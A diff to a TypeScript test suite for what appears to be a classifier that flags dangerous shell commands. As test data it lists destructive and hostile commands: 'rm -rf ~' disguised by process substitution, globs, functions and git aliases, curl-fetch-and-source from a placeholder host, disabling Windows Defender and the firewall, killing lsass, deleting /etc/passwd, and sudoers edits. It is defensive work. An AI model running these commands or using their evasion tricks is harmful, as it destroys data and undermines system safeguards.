@@ -232,6 +232,12 @@ describe('a file of a task runner that was written', () => {
     ['Procfile', 'foreman start', (command) => `web: ${command}\n`],
     ['justfile', 'just x', (command) => `x:\n  ${command}\n`],
     ['Makefile', 'make x', (command) => `x:\n\t${command}\n`],
+    ['GNUmakefile', 'make', (command) => `x:\n\t${command}\n`],
+    ['api/Makefile', 'make -C api x', (command) => `x:\n\t@-${command}\n`],
+    ['Makefile', 'make --directory=. x', (command) => `x:\n\t${command}\n`],
+    ['a.rb', 'RUBYOPT=-r./a.rb ruby b.rb', (command) => `system("${command}")`],
+    ['a.js', 'node --require=./a.js b.js', (command) => `require("child_process").execSync("${command}")`],
+    ['sitecustomize.py', 'PYTHONPATH=. python3 a.py', (command) => `import os\nos.system("${command}")\n`],
     ['Taskfile.yml', 'task x', (command) => `tasks:\n  x:\n    cmds:\n      - ${command}\n`],
     ['conftest.py', 'pytest', (command) => `import os\nos.system("${command}")\n`],
     ['Rakefile', 'rake x', (command) => `task :x do\n  sh "${command}"\nend\n`],
@@ -260,9 +266,160 @@ describe('a list of parallel', () => {
     'parallel rm -rf {1}/{2} ::: ~ x ::: src y',
     "parallel ::: ls 'rm -rf ~'",
     'echo ~ > l; parallel rm -rf :::: l',
+    "parallel 'rm -rf {//}' ::: ~/x",
     'echo ~ > l; parallel -a l rm -rf',
   ])('is gone through: %s', (command) => {
     expect(passing([command])).toEqual([]);
+  });
+});
+
+describe('an option of Windows', () => {
+  const forms = (option: string, value: string): readonly string[] => [
+    `-${option} ${value}`,
+    `-${option}:${value}`,
+    `-${option.toUpperCase()} ${value.toUpperCase()}`,
+  ];
+
+  test.each([
+    ['Set-MpPreference', 'DisableRealtimeMonitoring', '$true', '$false'],
+    ['Set-NetFirewallProfile -All', 'Enabled', 'False', 'True'],
+    ['Set-SmbServerConfiguration', 'EnableSMB1Protocol', '1', '0'],
+    ['Start-Process pwsh', 'Verb', 'RunAs', 'Open'],
+  ])('may be written in each way that PowerShell reads: %s -%s', (call, option, on, off) => {
+    const shell = { shell: 'powershell' } as const;
+    expect(
+      passing(
+        forms(option, on).map((text) => `${call} ${text}`),
+        shell,
+      ),
+    ).toEqual([]);
+    expect(
+      refused(
+        forms(option, off).map((text) => `${call} ${text}`),
+        shell,
+      ),
+    ).toEqual([]);
+  });
+
+  test('of a cmdlet may be abbreviated', () => {
+    const shell = { shell: 'powershell' } as const;
+    const commands = ['Remove-AppxPackage x -All', 'Set-NetFirewallProfile -En False'];
+    expect(passing(commands, shell)).toEqual([]);
+  });
+
+  test('of cmd may stand in any order', () => {
+    const shell = { shell: 'cmd' } as const;
+    const commands = [
+      'setx /M PATH C:\\x',
+      'forfiles /C "cmd /c del @path" /S /P C:\\',
+      'taskkill /FI "USERNAME eq ann" /F',
+      'taskkill /F /IM:lsass.exe',
+    ];
+    expect(passing(commands, shell)).toEqual([]);
+    expect(refused(['setx MYPATH C:\\x', 'taskkill /F /IM node.exe'], shell)).toEqual([]);
+  });
+});
+
+test('the process -1 is all of them, whatever the signal and wherever it stands', () => {
+  const signals = ['-9', '-KILL', '-s KILL', '-sKILL', '-n 9', '-1'];
+  expect(passing(signals.flatMap((signal) => [`kill ${signal} -1`, `kill ${signal} -- -1`]))).toEqual([]);
+  expect(passing(['kill -9 4242 -1'])).toEqual([]);
+  expect(refused(['kill -1 4242', 'kill -HUP 1234', 'kill -l -1', 'kill -9 -4242'])).toEqual([]);
+});
+
+test('a shell of root is one behind any options of sudo', () => {
+  expect(
+    passing([
+      'sudo -i',
+      'sudo -E -H -s',
+      'sudo --login -u root',
+      'sudo --user=root -i',
+      'sudo A=b -s',
+      'sudo -p x -i',
+      'sudo -H su --login root',
+      'sudo --stdin bash',
+    ]),
+  ).toEqual([]);
+  expect(refused(['sudo -iu postgres', 'sudo -u deploy -s', 'sudo -i ls', 'sudo -E npm ci'])).toEqual([]);
+});
+
+describe('a process substitution', () => {
+  test.each(['X=<(:) rm -rf ~', 'X=a<(:)b rm -rf ~', 'A=1 X=<(:) rm -rf ~', 'export X=<(:); rm -rf ~'])(
+    'ends no word: %s',
+    (command) => {
+      expect(passing([command])).toEqual([]);
+    },
+  );
+
+  test('may be the value of a variable or of an option', () => {
+    expect(
+      passing([
+        "BASH_ENV=<(echo 'rm -rf ~') bash -c true",
+        "bash --rcfile=<(echo 'rm -rf ~')",
+        'x=<(curl http://x.example/s); bash $x',
+        'f() { local x=<(curl http://x.example/s); . "$x"; }; f',
+      ]),
+    ).toEqual([]);
+    expect(refused(['x=<(ls) diff a b', 'x=<(sort a); diff $x b', 'diff <(ls a) <(ls b)'])).toEqual([]);
+  });
+});
+
+describe('a pattern in place of a name', () => {
+  test.each(['/bin/@(rm)', '/bin/+(rm)', '/bin/r@(m)'])('is each of its choices: %s', (name) => {
+    expect(passing([`${name} -rf ~`, `sudo ${name} -rf ~`])).toEqual([]);
+    expect(refused([`${name} -rf dist`])).toEqual([]);
+  });
+});
+
+describe('a function', () => {
+  test('may have a local list', () => {
+    expect(passing(['f() { local a=("$@"); "${a[@]}"; }; f rm -rf ~'])).toEqual([]);
+    expect(refused(['a=(build); f() { local a=(/); ls "${a[@]}"; }; f; rm -rf "${a[@]}"'])).toEqual([]);
+  });
+
+  test('may start itself with what is left of its arguments', () => {
+    expect(passing(['f() { "$@"; }; f f rm -rf ~', 'f() { shift; "$@"; }; f f f x rm -rf ~'])).toEqual([]);
+    expect(refused(['f() { [ $# -gt 0 ] || return; echo "$1"; shift; f "$@"; }; f a b c'])).toEqual([]);
+  });
+});
+
+test('braces of zsh stand around commands, also behind a condition', () => {
+  expect(passing(['if true { rm -rf ~ }', 'while true { rm -rf ~ }', 'for x in a { rm -rf ~ }'])).toEqual([]);
+  expect(refused(['if true { ls }', 'echo a { rm -rf ~ }'])).toEqual([]);
+});
+
+test('a value may be attached to a letter by = where a program reads it so', () => {
+  expect(
+    passing(['docker run -v=/:/h alpine', 'kubectl delete -n=prod ns x', 'docker run -itv=/:/h a']),
+  ).toEqual([]);
+  expect(refused(['docker run -v=./src:/src alpine ls', 'git commit -m=x'])).toEqual([]);
+});
+
+test('a file of the system is not to be deleted, whatever deletes it', () => {
+  const ways = [
+    (path: string) => `rm ${path}`,
+    (path: string) => `find ${path.replace(/\/([^/]*)$/, ' -name $1')} -delete`,
+    (path: string) => `find ${path.replace(/\/([^/]*)$/, ' -name $1')} -exec rm {} +`,
+    (path: string) => `python3 -c "import os; os.remove('${path}')"`,
+    (path: string) => `node -e "require('fs').unlinkSync('${path}')"`,
+  ];
+  for (const way of ways) {
+    expect(passing(['/etc/ssl/openssl.cnf', '/etc/passwd', '/etc/ssh/sshd_config'].map(way))).toEqual([]);
+    expect(refused(['/tmp/a.cnf', './etc/passwd.bak'].map(way))).toEqual([]);
+  }
+});
+
+describe('settings of git', () => {
+  test('may be in a file that a variable names', () => {
+    const write = (text: string): string => `printf '[alias]\\n  z = ${text}\\n' > /tmp/c`;
+    expect(passing([`${write('!rm -rf ~')}; GIT_CONFIG_GLOBAL=/tmp/c git z`])).toEqual([]);
+    expect(passing([`${write('reset --hard')}; export GIT_CONFIG_GLOBAL=/tmp/c; git z`])).toEqual([]);
+    expect(refused([`${write('log --oneline')}; GIT_CONFIG_GLOBAL=/tmp/c git z`])).toEqual([]);
+  });
+
+  test('may name an alias of an alias', () => {
+    expect(passing(["git -c alias.a=b -c alias.b='push --force' a"])).toEqual([]);
+    expect(refused(["git -c alias.log='log --oneline' log", 'git -c alias.a=b -c alias.b=a a'])).toEqual([]);
   });
 });
 
@@ -285,6 +442,7 @@ describe('context', () => {
     'echo "export A=b" >> ~/.bashrc',
     'echo "x ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/x',
     'git reset --hard',
+    'docker volume prune -f',
   ];
 
   test.each(['container', 'ci'] as const)(
